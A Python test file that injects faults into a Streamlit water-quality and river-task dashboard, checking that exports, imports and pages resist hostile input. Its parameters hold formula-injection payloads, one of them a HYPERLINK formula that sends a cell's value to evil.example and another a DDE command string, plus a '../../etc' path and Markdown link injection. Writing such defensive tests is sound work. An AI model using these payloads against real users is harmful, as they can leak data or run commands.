"""Fault injection: hostile input, broken files and faults of the machine. Each case asserts what the
user sees (a Chinese sentence naming what and where, never a traceback) and that the data served is
unchanged. Numbers refer to the findings of the hardening issue."""
import datetime as dt
import errno
import io
import json
import os
import subprocess
import sys
import tomllib
import zipfile

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from streamlit.testing.v1 import AppTest

from conftest import ROOT, signed_in
from exports.xlsx import table_xlsx
from loaders.importer import prepare, publish
from riverchief import assessment_rules, publishing, versions
from riverchief.db import Database
from tiny import N2

APP = str(ROOT / "app.py")


def app(monkeypatch, root, strict=True) -> AppTest:
    monkeypatch.setenv("RIVERBOARD_DATA_DIR", str(root))
    if not strict:
        monkeypatch.delenv("RIVERBOARD_STRICT", raising=False)
    at = signed_in(AppTest.from_file(APP, default_timeout=60)).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def csv(text: str) -> bytes:
    return text.encode("utf-8")


READING = "断面,采样时间,总磷\n一号河断面,2023-08-01,0.12\n"


# 1. every writer refuses a stale base -----------------------------------------------------------------

def test_an_override_on_a_version_that_is_no_longer_current_is_refused(tiny_dir):
    seen = versions.current_version(tiny_dir)
    landed = publish(prepare([("x.csv", csv(READING))], tiny_dir), tiny_dir, "甲")  # an import lands meanwhile
    with pytest.raises(versions.StoreError, match="已被他人更新"):
        publishing.override_light(tiny_dir, "B", N2, "red", "现场核查", "乙", expect_current=seen.id)
    assert versions.current_version(tiny_dir).id == landed.id  # the import is not lost


def test_a_rollback_from_a_stale_page_is_refused(tiny_dir):
    seen = versions.current_version(tiny_dir)
    landed = publish(prepare([("x.csv", csv(READING))], tiny_dir), tiny_dir, "甲")
    with pytest.raises(versions.StoreError, match="已被他人更新"):
        publishing.rollback(tiny_dir, seen.id, "乙", expect_current=seen.id)
    assert versions.current_version(tiny_dir).id == landed.id


def test_a_rules_save_over_someone_elses_is_refused(tmp_path):
    stamp = assessment_rules.rules_stamp(tmp_path)
    rules = assessment_rules.default_rules()
    assessment_rules.save_rules(tmp_path, rules, "甲", expect_stamp=stamp)
    with pytest.raises(assessment_rules.RulesError, match="已被他人修改"):
        assessment_rules.save_rules(tmp_path, rules, "乙", expect_stamp=stamp)


# 2. real data is never replaced by the demo; CURRENT is only ever a version id --------------------------

def test_make_run_builds_no_demo_over_versions_without_current(tiny_dir):
    (tiny_dir / "CURRENT").unlink()
    out = subprocess.run([sys.executable, "-m", "loaders", "demo", "--if-empty"], cwd=ROOT, capture_output=True,
                         text=True, env=os.environ | {"RIVERBOARD_DATA_DIR": str(tiny_dir)})
    assert out.returncode == 0 and len(versions.list_versions(tiny_dir)) == 1  # no demo published


@pytest.mark.parametrize("pointer", [b"../../etc", b"\x00\xff\xfe garbage \x89PNG", b"", b"20240101T000000-zzzzzz"])
def test_a_bad_current_is_repaired_from_the_last_commit_record(monkeypatch, tiny_dir, pointer):
    good = versions.current_version(tiny_dir).id
    (tiny_dir / "CURRENT").write_bytes(pointer)
    at = app(monkeypatch, tiny_dir)
    assert at.title[0].value.startswith("三色看板") and versions.current_version(tiny_dir).id == good


@pytest.mark.parametrize("pointer", [b"../../etc", b"\x00\xff\xfe garbage \x89PNG"])
def test_a_bad_current_without_a_record_opens_the_recovery_page(monkeypatch, tiny_dir, pointer):
    good = versions.current_version(tiny_dir).id
    (tiny_dir / "CURRENT").write_bytes(pointer)
    (tiny_dir / "commits.log").unlink()
    at = app(monkeypatch, tiny_dir)
    assert at.title[0].value == "数据版本无法读取" and "CURRENT" in at.error[0].value
    at.selectbox[0].select(good)
    at.button[0].click().run()
    assert versions.current_version(tiny_dir).id == good  # rolled back from the app


def test_missing_current_with_versions_is_recovered_not_restarted(monkeypatch, tiny_dir):
    (tiny_dir / "CURRENT").unlink()
    (tiny_dir / "commits.log").unlink()
    at = app(monkeypatch, tiny_dir)
    assert at.title[0].value == "数据版本无法读取" and "CURRENT" in at.error[0].value
    assert not [b for b in at.button if b.label == "先看看示例数据"]


# 3. not open to the network, no tracebacks in the browser ---------------------------------------------

def test_served_on_localhost_without_error_details_or_usage_statistics():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["server"]["address"] == "127.0.0.1"
    assert config["client"]["showErrorDetails"] == "none"
    assert config["browser"]["gatherUsageStats"] is False


def test_a_page_error_shows_a_chinese_sentence_with_an_error_id(monkeypatch, tiny_dir, caplog):
    import riverchief.water_report as wq
    import ui.data

    def broken(*args, **kwargs):
        raise KeyError("internal detail")

    monkeypatch.setattr(ui.data, "load_water", broken)
    ui.data.water.clear()
    at = app(monkeypatch, tiny_dir, strict=False)
    at.switch_page("app_pages/water.py").run()
    assert not at.exception
    message = at.error[0].value
    assert "错误编号" in message and "internal detail" not in message and "KeyError" not in message
    error_id = message.split("错误编号 ")[1].split(" ")[0]
    assert any(error_id in r.getMessage() for r in caplog.records)  # the server log carries the traceback's id
    monkeypatch.setattr(ui.data, "load_water", wq.load_water)  # the same page with the loader whole: no error box
    ui.data.water.clear()
    at.switch_page("app_pages/water.py").run()
    assert not at.error and [m.label for m in at.metric][:1] == ["断面达标率"]  # June 2023 of the tiny district


# 4. no live formulas in any Excel file ------------------------------------------------------------------

@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/"&A1,"点击")', "=cmd|' /C calc'!A0", "\t=1+1",
                                  " =1+1", "+1+1", "-1+1", "@SUM(1)", "\r=1"])
def test_text_that_looks_like_a_formula_is_stored_as_text(text):
    data = table_xlsx(pd.DataFrame({"title": [text]}), [("title", "事项", 20)], "测试", "测试")
    cell = load_workbook(io.BytesIO(data))["测试"]["A3"]
    assert cell.data_type == "s" and cell.value == text and cell.quotePrefix


def test_the_import_report_of_a_hostile_file_name_is_text(tiny_dir):
    from loaders.issues import issues_frame

    report = issues_frame(prepare([("=1+1.csv", csv("断面,采样时间,总磷\n三号河,2023-07-01,0.1\n"))], tiny_dir).issues)
    data = table_xlsx(report, [(c, c, 20) for c in report.columns], "报告", "报告")
    cell = load_workbook(io.BytesIO(data))["报告"]["A3"]
    assert cell.value == "=1+1.csv" and cell.data_type == "s"


# 5. Markdown from data stays text -----------------------------------------------------------------------

def test_an_imported_title_with_markdown_shows_as_text(monkeypatch, tiny_dir):
    items = versions.read_tables(versions.current_version(tiny_dir))
    items["items"].loc[items["items"]["item_id"] == "B", "title"] = "![x](http://evil.example/x.png) [点击领取](http://e.x)"
    publishing.publish(tiny_dir, items, source="测试", created_by="[链接](http://e.x)")
    at = app(monkeypatch, tiny_dir)
    at.query_params["item"] = "B"
    at.switch_page("app_pages/item.py").run()
    assert not at.exception
    shown = [h.value for h in at.subheader if "点击领取" in h.value][0]
    assert "](" not in shown
    at.switch_page("app_pages/data_admin.py").run()
    assert all("](" not in c.value for c in at.caption)


# 6. sentences, not tracebacks ---------------------------------------------------------------------------

def test_control_characters_are_removed_at_import_and_exports_still_write(tiny_dir):
    rows = "通报日期,编号,清单,年度,事项名称,河流,责任单位,开始日期,完成时限\n" \
           "2023-06-30,G1,一河一策,2023,清淤\x07\x1b\x0b工程,一号河,甲镇,2023-01-01,2023-12-31\n"
    version = publish(prepare([("x.csv", csv(rows))], tiny_dir), tiny_dir, "甲")
    title = Database(version).execute("SELECT title FROM items WHERE item_id = 'G1'").iloc[0, 0]
    assert title == "清淤工程"
    from exports.notice_files import notice_docx, notice_xlsx
    from riverchief.board import Filters
    from riverchief.notice import build_notice

    notice = build_notice(Database(version), N2, Filters(), "全区", "测试区")
    notice.paragraphs.append("含控制字符\x07的段落")  # data from an older version
    assert notice_docx(notice, "全区", False)[:2] == b"PK" and notice_xlsx(notice, "全区", False)[:2] == b"PK"


@pytest.mark.parametrize("content", [b"base = nan\n", b"base = inf\n", "base = 100 # 备注\n".encode("gbk"), None])
def test_broken_rules_files_are_said_and_the_last_good_ones_kept(monkeypatch, tiny_dir, content):
    folder = tiny_dir / "rules"
    folder.mkdir()
    if content is None:
        (folder / "assessment.toml").mkdir()  # a folder where the file should be
    else:
        (folder / "assessment.toml").write_bytes(content)
    loaded = assessment_rules.load_rules(tiny_dir)
    assert loaded.error and loaded.source == "默认规则"
    at = app(monkeypatch, tiny_dir)
    at.switch_page("app_pages/score.py").run()
    assert not at.exception and "规则" in at.error[0].value


def test_a_read_only_data_folder_still_scores(monkeypatch, tiny_dir):
    (tiny_dir / "rules").mkdir()
    (tiny_dir / "rules" / "assessment.toml").write_text(
        (ROOT / "riverchief" / "assessment_default.toml").read_text(encoding="utf-8"), encoding="utf-8")

    def refuse(*args, **kwargs):
        raise PermissionError(errno.EROFS, "read-only file system")

    monkeypatch.setattr(assessment_rules, "_write_atomic", refuse)
    assert assessment_rules.load_rules(tiny_dir).error is None
    with pytest.raises(assessment_rules.RulesError, match="只读|权限"):
        assessment_rules.save_rules(tiny_dir, assessment_rules.default_rules(), "甲")


def test_a_full_disk_is_said_in_words_and_nothing_is_half_published(monkeypatch, tiny_dir):
    before = versions.current_version(tiny_dir).id

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(versions.pq, "write_table", full)
    prepared = prepare([("x.csv", csv(READING))], tiny_dir)
    with pytest.raises(versions.StoreError, match="磁盘空间已满"):
        publish(prepared, tiny_dir, "甲")
    assert versions.current_version(tiny_dir).id == before
    assert not list((tiny_dir / "versions").glob(".tmp-*"))


@pytest.mark.parametrize("name,data,words", [
    ("map.zip", b"this is not a zip", "不是有效的压缩包"),
    ("map.geojson", b"{not json", "无法读取地图文件"),
    ("x.xlsx", b"PK\x03\x04garbage", "不是有效的 Excel 文件"),
    ("x.xls", b"\xd0\xcf\x11\xe0garbage", "不是有效的 .xls 文件"),
    ("x.csv", "断面,采样时间,总磷\n".encode("utf-16"), "无法识别文字编码"),
])
def test_broken_files_are_said_in_words(tiny_dir, name, data, words):
    prepared = prepare([(name, data)], tiny_dir)
    assert any(words in i.message for i in prepared.issues), [str(i) for i in prepared.issues]


def test_a_shapefile_whose_cpg_has_bad_bytes_is_read(tiny_dir, tmp_path):
    import geopandas as gpd
    import shapely

    layer = gpd.GeoDataFrame({"名称": ["甲镇"]}, geometry=[shapely.box(106.1, 29.1, 106.2, 29.2)], crs=4326)
    layer.to_file(tmp_path / "t.shp", encoding="utf-8")
    (tmp_path / "t.cpg").write_bytes(b"\xff\xfe\x00UTF\x9f")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for p in tmp_path.glob("t.*"):
            z.write(p, p.name)
    prepared = prepare([("towns.zip", buf.getvalue())], tiny_dir)
    assert all("Traceback" not in i.message for i in prepared.issues)


# 7. one broken file does not take every page down --------------------------------------------------------

@pytest.mark.parametrize("damage", ["townships", "monthly", "manifest", "partition"])
def test_a_damaged_version_shows_why_and_rolls_back(monkeypatch, tiny_dir, damage):
    good = versions.current_version(tiny_dir)
    bad = publish(prepare([("x.csv", csv(READING))], tiny_dir), tiny_dir, "甲")
    if damage == "townships":
        (bad.path / "townships.parquet").write_bytes(b"garbage")
    elif damage == "monthly":
        (bad.path / "readings_monthly.parquet").write_bytes(b"")
    elif damage == "manifest":
        (bad.path / "manifest.json").write_text("{broken", encoding="utf-8")
    else:
        for part in (bad.path / "items").glob("notice=2023-06-30/*"):
            part.unlink()
    at = app(monkeypatch, tiny_dir)
    assert at.title[0].value == "数据版本无法读取"
    assert any(w in at.error[0].value for w in ("损坏", "缺失", "缺少"))
    at.selectbox[0].select(good.id)
    at.button[0].click().run()
    assert versions.current_version(tiny_dir).id == good.id


# 8. wrong data is refused, by row and column -------------------------------------------------------------

ITEM_HEAD = "通报日期,编号,清单,年度,事项名称,河流,责任单位,开始日期,完成时限,完成进度,目标量,落实资金（万元）\n"


@pytest.mark.parametrize("cells,words", [
    ("2030-12-31,G,一河一策,2030,x,一号河,甲镇,2030-01-01,2030-12-31,,,", "晚于今天"),
    ("2099-12-31,G,一河一策,2099,x,一号河,甲镇,2099-01-01,2099-12-31,,,", "不在合理范围"),
    ("2023-06-30,G,一河一策,2023,x,一号河,甲镇,2023-01-01,2023-12-31,nan,,", "不是进度"),
    ("2023-06-30,G,一河一策,2023,x,一号河,甲镇,2023-01-01,2023-12-31,,inf,", "不是有效数字"),
    ("2023-06-30,G,一河一策,2023,x,一号河,甲镇,2023-01-01,2023-12-31,,,1e308", "应不大于"),
    ("2023-06-30,G,一河一策,2023,x,一号河,甲镇,1900-01-01,2023-12-31,,,", "不在合理范围"),
])
def test_implausible_list_values_are_refused(tiny_dir, cells, words):
    prepared = prepare([("x.csv", csv(ITEM_HEAD + cells + "\n"))], tiny_dir)
    assert any(words in i.message for i in prepared.issues), [str(i) for i in prepared.issues]


def test_progress_is_percent_or_fraction_per_column(tiny_dir):
    rows = ITEM_HEAD + "".join(f"2023-06-30,G{k},一河一策,2023,x{k},一号河,甲镇,2023-01-01,2023-12-31,{p},,\n"
                               for k, p in enumerate(["1", "1.5", "60"]))
    items = prepare([("x.csv", csv(rows))], tiny_dir).tables["items"]
    got = items[items["item_id"].str.startswith("G")].sort_values("item_id")["progress"].tolist()
    assert got == [0.01, 0.015, 0.6]  # 60 makes the column percentages: 1 is 1%, not 100%
    rows = ITEM_HEAD + "".join(f"2023-06-30,G{k},一河一策,2023,x{k},一号河,甲镇,2023-01-01,2023-12-31,{p},,\n"
                               for k, p in enumerate(["1", "0.5"]))
    items = prepare([("x.csv", csv(rows))], tiny_dir).tables["items"]
    assert items[items["item_id"].str.startswith("G")].sort_values("item_id")["progress"].tolist() == [1.0, 0.5]


@pytest.mark.parametrize("row,words", [("一号河断面,2023-08-01,99999", "应不大于 10（mg/L；这样大的数值多半是单位不对"),
                                       ("一号河断面,1900-08-01,0.1", "不在合理范围"),
                                       ("一号河断面,2099-08-01,0.1", "不在合理范围")])
def test_implausible_readings_are_refused(tiny_dir, row, words):
    prepared = prepare([("x.csv", csv("断面,采样时间,总磷\n" + row + "\n"))], tiny_dir)
    assert any(words in i.message for i in prepared.issues), [str(i) for i in prepared.issues]


def _polygons(n, x0=106.1, y0=29.1, name=lambda k: "甲镇", swap=False):
    feats = []
    for k in range(n):
        ring = [[x0 + k * 1e-4, y0], [x0 + k * 1e-4 + 5e-5, y0], [x0 + k * 1e-4, y0 + 5e-5], [x0 + k * 1e-4, y0]]
        if swap:
            ring = [[b, a] for a, b in ring]
        feats.append({"type": "Feature", "properties": {"名称": name(k)}, "geometry": {"type": "Polygon", "coordinates": [ring]}})
    return json.dumps({"type": "FeatureCollection", "features": feats}).encode()


@pytest.mark.parametrize("data,words", [
    (_polygons(1, swap=True), "坐标也不是经纬度"),
    (_polygons(1, x0=116.4, y0=39.9), "距本区约"),
    (_polygons(20_001), "超过上限"),
    (b" " * (51 * 1024 * 1024), "超过 50 MB"),
])
def test_implausible_maps_are_refused(tiny_dir, data, words):
    prepared = prepare([("towns.geojson", data)], tiny_dir)
    assert any(words in i.message for i in prepared.issues), [str(i) for i in prepared.issues]


def test_parts_of_one_township_are_joined_not_the_last_kept(tiny_dir):
    prepared = prepare([("towns.geojson", _polygons(3))], tiny_dir)
    assert prepared.ok, [str(i) for i in prepared.issues]
    import shapely

    shape = shapely.from_wkt(prepared.tables["townships"].set_index("name").loc["甲镇", "geom_wkt"])
    assert shape.geom_type == "MultiPolygon" and len(shape.geoms) == 3


def test_a_name_two_rivers_share_is_refused(tiny_dir):
    tables = versions.read_tables(versions.current_version(tiny_dir))
    tables["rivers"].loc[tables["rivers"]["river_id"] == "R2", "name"] = "一号河"
    publishing.publish(tiny_dir, tables, source="测试", created_by="tests")
    prepared = prepare([("x.csv", csv(ITEM_HEAD + "2023-06-30,G,一河一策,2023,x,一号河,甲镇,2023-01-01,2023-12-31,,,\n"))],
                       tiny_dir)
    assert any("对应多个河流（编号 R1、R2）" in i.message for i in prepared.issues)


def test_a_header_only_file_publishes_nothing(tiny_dir):
    prepared = prepare([("x.csv", csv("断面,采样时间,总磷\n"))], tiny_dir)
    assert prepared.unchanged and any("只有表头" in n.message for n in prepared.notes)
    with pytest.raises(versions.StoreError, match="没有变化"):
        publish(prepared, tiny_dir, "甲")


def test_too_many_problems_are_counted_not_listed(tiny_dir):
    rows = "断面,采样时间,总磷\n" + "".join(f"三号河,2023-07-{d:02d},0.1\n" for d in range(1, 29)) * 30
    issues = prepare([("x.csv", csv(rows))], tiny_dir).issues
    assert len(issues) <= 502 and "另有" in issues[-1].message or "还有" in issues[-1].message


# 10. leftovers of a stopped publish ---------------------------------------------------------------------

def test_a_stopped_publish_is_cleaned_or_rolled_forward(tiny_dir):
    (tiny_dir / "versions" / ".tmp-20240101T000000-abcdef").mkdir()
    assert any("removed" in d for d in versions.recover(tiny_dir))
    assert not list((tiny_dir / "versions").glob(".tmp-*"))
    first = versions.current_version(tiny_dir)
    second = publish(prepare([("x.csv", csv(READING))], tiny_dir), tiny_dir, "甲")
    (tiny_dir / "CURRENT").write_text(first.id)  # stopped after the commit record, before CURRENT moved
    assert versions.recover(tiny_dir) == [f"CURRENT rolled forward to {second.id}"]
    assert versions.current_version(tiny_dir).id == second.id
    assert versions.commits(tiny_dir)[-1]["version"] == second.id


# fuzz: the readers never raise anything but their own sentences -----------------------------------------

CELLS = st.one_of(st.none(), st.integers(-10**6, 10**6), st.floats(allow_nan=True, allow_infinity=True),
                  st.dates(dt.date(1800, 1, 1), dt.date(2200, 1, 1)),
                  st.sampled_from(["断面", "采样时间", "总磷", "氨氮", "事项名称", "河流", "责任单位", "完成时限", "进度",
                                   "小计", "合计", "注：", "0.01L", "<0.01", "未检出", "2024年底前", "推进中（60%）",
                                   "一号河", "一号河断面", "甲镇", "=1+1", "106°02′30″", "Ⅲ类", "长期坚持", "", " ",
                                   "\x07", "2023-06-30", "6月30日前", "已完成"]),
                  st.text(max_size=12))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(grid=st.lists(st.lists(CELLS, min_size=1, max_size=7), min_size=1, max_size=8), as_csv=st.booleans())
def test_messy_sheets_never_escape_as_exceptions(tiny_dir, grid, as_csv):
    if as_csv:
        text = "\n".join(",".join("" if c is None else str(c).replace(",", " ").replace("\n", " ") for c in row)
                         for row in grid)
        files = [("fuzz.csv", text.encode("utf-8"))]
    else:
        wb = Workbook()
        out = io.BytesIO()
        try:
            for row in grid:
                wb.active.append(row)
            wb.save(out)
        except Exception:
            return  # openpyxl itself refuses some generated text: not a file an office can have
        files = [("fuzz.xlsx", out.getvalue())]
    prepared = prepare(files, tiny_dir)  # must not raise
    for issue in prepared.issues:
        assert "Traceback" not in issue.message and "Error" not in issue.message
